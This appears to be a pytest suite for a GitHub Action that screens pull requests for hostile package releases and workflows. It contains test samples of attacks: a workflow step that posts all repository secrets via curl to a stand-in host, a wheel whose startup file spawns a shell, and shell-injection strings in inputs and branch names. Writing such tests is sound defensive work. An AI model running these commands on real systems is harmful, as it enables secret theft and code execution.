"""Our GitHub Action, with its steps run as a runner runs them."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from gatekeeper.commands.action import FAILS, INPUT
from gatekeeper.commands.action import Job as Judging
from gatekeeper.errors import UndecidedError, UsageError
from tests.action.runner import ACTION, ROOT, Runner
from tests.support import attacks
from tests.support.clients import NEWEST
from tests.support.packages import wheel
from tests.support.repository import commit, git

if TYPE_CHECKING:
    from tests.action.runner import Job
    from tests.support.ground import Ground, MakeGround
    from tests.support.index import Index

GATEKEEPER = str(Path(sys.executable).with_name("gatekeeper"))
NOBODY, COMMIT = "0" * 40, "0123456789abcdef0123456789abcdef01234567"
STEP = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"


@pytest.fixture
def ground(make_ground: MakeGround, index: Index) -> Ground:
    index.add(*(wheel("mossgarden", version) for version in ("1.0", "1.1")))
    made = make_ground(NEWEST, index_url=index.url)
    git(made, "init", "-q", "-b", "main")
    return made


@pytest.fixture
def hostile(index: Index, ground: Ground) -> str:
    """A release whose startup file spawns a shell."""
    index.add(attacks.pth_wheel("mossgarden", attacks.spawn_shell(ground.marker).replace("\n", "; "), "1.2"))
    return "mossgarden==1.2\n"


def proposed(ground: Ground, files: dict[str, str], **more: Any) -> Runner:
    """A pull request, merged for trial as the service does, that changes files of main."""
    base = commit(ground, {"requirements.txt": "mossgarden==1.0\n", ".github/workflows/a.yml": STEP})
    git(ground, "checkout", "-qb", more.pop("branch", "change"))
    commit(ground, files)
    return Runner(ground, "pull_request", {"pull_request": {"base": {"sha": base}, **more}})


def used(runner: Runner, **inputs: str) -> Job:
    return runner.uses(gatekeeper=GATEKEEPER, **inputs)


def job_of(folder: Path, event: str = "push", payload: str = "{}", **inputs: str) -> Judging:
    """What the program makes of an event and inputs, without a run."""
    (folder / "event.json").write_text(payload, "utf-8")
    environ = {"GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": str(folder / "event.json")}
    environ |= {f"{INPUT}{name.upper().replace('-', '_')}": value for name, value in inputs.items()}
    return Judging({**environ, "GITHUB_OUTPUT": str(folder / "output")}, folder)


def report(job: Job) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(Path(job.outputs["report"]).read_bytes())
    return found


class TestPullRequests:
    def test_a_hostile_release_is_refused_at_the_line_that_names_it(self, ground: Ground, hostile: str) -> None:
        job = used(proposed(ground, {"requirements.txt": f"# ours\n{hostile}"}))
        assert job.code == 10, job.err
        assert job.outputs["ruling"] == "block"
        (line,) = [each for each in job.annotations if each.startswith("::error")]
        assert "file=requirements.txt,line=2" in line
        assert "mossgarden 1.2" in line
        assert "mossgarden 1.2" in job.summary
        assert not ground.marker.exists()
        (run,) = json.loads(Path(job.outputs["sarif"]).read_bytes())["runs"]
        places = [each["locations"][0]["physicalLocation"] for each in run["results"]]
        assert {(each["artifactLocation"]["uri"], each["region"]["startLine"]) for each in places} == {
            ("requirements.txt", 2)
        }

    def test_an_honest_bump_passes_and_nothing_else_is_judged(self, ground: Ground) -> None:
        bump = STEP.replace("@v4", "@v5")
        job = used(proposed(ground, {"requirements.txt": "mossgarden==1.1\n", ".github/workflows/a.yml": bump}))
        assert (job.code, job.outputs["ruling"]) == (0, "allow"), job.err
        assert job.annotations == []
        assert {row["name"] for row in report(job)["releases"]} == {"mossgarden", ".github/workflows/a.yml"}

    def test_a_workflow_that_takes_the_secrets_is_refused_at_its_line(self, ground: Ground) -> None:
        theft = (
            STEP
            + '      - run: curl -d "$ALL" https://files.example/\n        env:\n          ALL: ${{ toJSON(secrets) }}\n'
        )
        job = used(proposed(ground, {".github/workflows/a.yml": theft}))
        assert job.code == 10
        assert any("file=.github/workflows/a.yml,line=" in each for each in job.annotations)

    def test_no_secret_and_no_token_is_needed(self, ground: Ground, hostile: str) -> None:
        runner = proposed(ground, {"requirements.txt": hostile}, head={"repo": {"fork": True}})
        assert not [name for name in ground.clean_environ() if "TOKEN" in name or "SECRET" in name]
        assert "secrets" not in (ROOT / "action.yml").read_text("utf-8")
        assert used(runner).code == 10

    def test_a_policy_that_is_proposed_does_not_excuse_what_is_proposed(self, ground: Ground, hostile: str) -> None:
        policy = '[rulings]\npth-startup-code = "allow"\ncommand-pattern = "allow"\n'
        assert used(proposed(ground, {"requirements.txt": hostile, "gatekeeper.toml": policy})).code == 10

    def test_a_shallow_checkout_is_told_what_to_fetch(self, ground: Ground, tmp_path: Path) -> None:
        runner = proposed(ground, {"requirements.txt": "mossgarden==1.1\n"})
        whole = tmp_path / "whole"
        ground.project.rename(whole)
        subprocess.run(["git", "clone", "-q", "--depth", "1", whole.as_uri(), str(ground.project)], check=True)
        job = used(runner)
        assert (job.code, job.outputs["ruling"]) == (12, "error")
        assert "fetch-depth" in job.err

    def test_the_target_of_a_pull_request_is_not_taken_for_the_change(self, ground: Ground, hostile: str) -> None:
        runner = proposed(ground, {"requirements.txt": hostile})
        runner.event = "pull_request_target"
        job = used(runner)
        assert job.code == 2
        assert "ruling" not in job.outputs
        assert used(runner, base="main").code == 10


class TestOtherEvents:
    def test_a_push_is_held_against_what_it_replaced(self, ground: Ground, hostile: str) -> None:
        before = commit(ground, {"requirements.txt": hostile})
        commit(ground, {"other.txt": "nothing\n"})
        assert used(Runner(ground, "push", {"before": before})).code == 0

    def test_without_a_change_everything_is_judged(self, ground: Ground, hostile: str) -> None:
        commit(ground, {"requirements.txt": hostile})
        assert used(Runner(ground)).code == 10

    @pytest.mark.parametrize(
        ("event", "payload", "base"),
        [
            ("pull_request", {"pull_request": {"base": {"sha": COMMIT}}}, COMMIT),
            ("push", {"before": COMMIT}, COMMIT),
            ("push", {"before": COMMIT, "forced": True}, None),
            ("push", {"before": NOBODY}, None),
            ("merge_group", {"merge_group": {"base_sha": COMMIT}}, COMMIT),
            ("schedule", {}, None),
            ("workflow_dispatch", {}, None),
        ],
    )
    def test_each_event_has_its_base(self, tmp_path: Path, event: str, payload: object, base: str | None) -> None:
        assert job_of(tmp_path, event, json.dumps(payload)).base() == base
        assert job_of(tmp_path, event, json.dumps(payload), base="main").base() == "main"
        assert job_of(tmp_path, event, json.dumps(payload), base="none").base() is None

    @pytest.mark.parametrize(
        "payload", ["", "[]", "[" * 5000, "5", '{"pull_request": 5}', '{"pull_request": {"base": {"sha": "--all"}}}']
    )
    def test_a_payload_that_tells_nothing_is_no_success(self, tmp_path: Path, payload: str) -> None:
        with pytest.raises(UndecidedError):
            job_of(tmp_path, "pull_request", payload).base()


class TestInputs:
    @pytest.mark.parametrize(("fail_on", "fails"), FAILS.items())
    @pytest.mark.parametrize(("ruling", "code"), [("allow", 0), ("ask", 11), ("error", 12), ("block", 10)])
    def test_a_ruling_fails_the_step_where_it_is_to(
        self, tmp_path: Path, fail_on: str, fails: frozenset[str], ruling: str, code: int
    ) -> None:
        job = job_of(tmp_path, **{"fail-on": fail_on})
        job.path("report.json").write_text(json.dumps({"ruling": ruling}), "utf-8")
        assert job.concluded(code) == (code if ruling in fails else 0)
        assert f"ruling={ruling}\n" in (tmp_path / "output").read_text("utf-8")

    @pytest.mark.parametrize(
        "report", ["", "{}", '{"ruling": "allowed"}', '{"ruling": "allow"}', '{"ruling": "error"}']
    )
    @pytest.mark.parametrize("code", [2, 130])
    def test_a_mistake_or_an_end_before_time_fails_whatever_is_asked_for(
        self, tmp_path: Path, report: str, code: int
    ) -> None:
        job = job_of(tmp_path, **{"fail-on": "never"})
        job.path("report.json").write_text(report, "utf-8")
        assert job.concluded(code) == code

    def test_without_a_report_nothing_is_fine(self, tmp_path: Path) -> None:
        assert job_of(tmp_path, **{"fail-on": "never"}).concluded(0) == 12

    @pytest.mark.parametrize("name", ["fail-on", "comment"])
    def test_a_word_that_is_not_known_is_a_mistake(self, tmp_path: Path, name: str) -> None:
        with pytest.raises(UsageError, match=name):
            job_of(tmp_path, **{name: "perhaps"}).words()

    def test_a_block_is_told_even_where_it_fails_nothing(self, ground: Ground, hostile: str) -> None:
        job = used(proposed(ground, {"requirements.txt": hostile}), fail_on="never")
        assert (job.code, job.outputs["ruling"]) == (0, "block")

    def test_a_question_fails_the_step(self, ground: Ground) -> None:
        job = used(proposed(ground, {"a/action.yml": "runs:\n  steps:\n    - uses: a/b@main\n"}))
        assert (job.code, job.outputs["ruling"]) == (11, "ask")

    def test_paths_are_one_a_line(self, ground: Ground, hostile: str) -> None:
        commit(ground, {"requirements.txt": hostile, "a b/requirements.txt": "mossgarden==1.1\n"})
        job = used(Runner(ground), paths="a b/requirements.txt\n", format="json")
        assert (job.code, json.loads(job.out)["ruling"]) == (0, "allow"), job.text

    def test_a_path_that_is_not_there_is_a_mistake_and_no_empty_success(self, ground: Ground) -> None:
        job = used(proposed(ground, {"requirements.txt": "mossgarden==1.1\n"}), paths="requirement.txt")
        assert (job.code, job.outputs["ruling"]) == (2, "error")

    def test_a_comment_is_written_and_not_posted(self, ground: Ground, hostile: str) -> None:
        job = used(proposed(ground, {"requirements.txt": hostile}), comment="true")
        assert "mossgarden 1.2" in Path(job.outputs["comment"]).read_text("utf-8")

    @pytest.mark.parametrize(
        "words", ["$(touch {marker})`touch {marker}`\"; touch {marker}; '\nx=$(touch {marker})", "--help"]
    )
    def test_whatever_an_input_or_a_branch_says_is_no_code(self, ground: Ground, words: str) -> None:
        said = words.format(marker=ground.marker)
        runner = proposed(ground, {"requirements.txt": "mossgarden==1.1\n"}, head={"ref": said})
        for names in (("paths",), ("base", "policy", "fail_on", "format", "comment"), ("wrap",)):
            job = used(runner, **dict.fromkeys(names, said))
            assert job.code in (2, 12), (names, job.text)
            assert "fault of our own" not in job.err
        assert not ground.marker.exists()

    def test_nor_is_the_name_of_a_file_or_branch(self, ground: Ground, hostile: str) -> None:
        names = ("$(touch x).txt", "a'b", 'a"b', "a\nb", "-rf", "::error::hi")
        runner = proposed(ground, {f"{name}/requirements.txt": hostile for name in names}, branch="b-$(touch${IFS}x)'")
        job = used(runner)
        assert job.code == 10
        assert len(report(job)["releases"]) == len(names)
        assert not any(line.startswith("::error::hi") for line in job.out.splitlines())
        assert not list(ground.project.glob("x"))
        assert set(job.outputs) == {"ruling", "report", "sarif"}


class TestWrapping:
    def test_later_steps_are_gated(self, ground: Ground, hostile: str) -> None:
        job = used(Runner(ground), wrap="pip")
        assert job.code == 0, job.err
        (folder,) = job.path
        assert sorted(each.name for each in Path(folder).iterdir() if not each.name.startswith("shell.")) == [
            "pip",
            "pip3",
        ]
        ground.environ["PATH"] = f"{folder}{os.pathsep}{ground.clean_environ()['PATH']}"
        assert ground.run("bash", "-c", "pip install mossgarden==1.2").code == 10
        assert not ground.marker.exists()
        assert ground.run("bash", "-c", "pip install mossgarden==1.1 && pip list").code == 0
        assert (ground.environment.site / "mossgarden").exists()

    def test_a_client_that_is_not_known_is_a_mistake(self, ground: Ground) -> None:
        assert used(Runner(ground), wrap="pip,cargo").code == 2


class TestTheFile:
    def test_no_script_holds_an_expression_and_no_step_another_action(self) -> None:
        for step in ACTION["runs"]["steps"]:
            assert "${{" not in step["run"]
            assert "uses" not in step
            assert len(step["run"].splitlines()) <= 3

    def test_every_input_and_output_is_described_and_documented(self) -> None:
        page = (ROOT / "docs" / "action.md").read_text("utf-8")
        for name, each in (*ACTION["inputs"].items(), *ACTION["outputs"].items()):
            assert each["description"]
            assert f"`{name}`" in page

    def test_every_input_reaches_the_program(self) -> None:
        text = (ROOT / "action.yml").read_text("utf-8")
        assert all(f"inputs.{name}" in text for name in ACTION["inputs"])

    def test_the_example_in_the_readme_asks_for_nothing_but_reading(self) -> None:
        readme = (ROOT / "README.md").read_text("utf-8")
        (example,) = [each for each in readme.split("```yaml\n")[1:] if "jobs:" in each]
        workflow = yaml.safe_load(example.partition("```")[0])
        assert workflow["permissions"] == {"contents": "read"}
        steps = workflow["jobs"]["gatekeeper"]["steps"]
        assert steps[0]["with"]["fetch-depth"] == 0
        assert set(steps[1].get("with", {})) <= set(ACTION["inputs"])

    def test_a_checkout_cannot_stand_in_for_what_the_installation_needs(self, ground: Ground) -> None:
        for name in ("venv.py", "ensurepip.py", "pip.py"):
            ground.write(name, f"open({str(ground.marker)!r}, 'w')\n")
        ground.environ |= {"PIP_NO_INDEX": "1"}
        job = Runner(ground).uses(python=sys.executable)
        assert job.code != 0  # there is no index to fetch what builds gatekeeper
        assert (ground.folder / "runner" / "temp" / "gatekeeper" / "bin" / "python").exists()
        assert not ground.marker.exists()
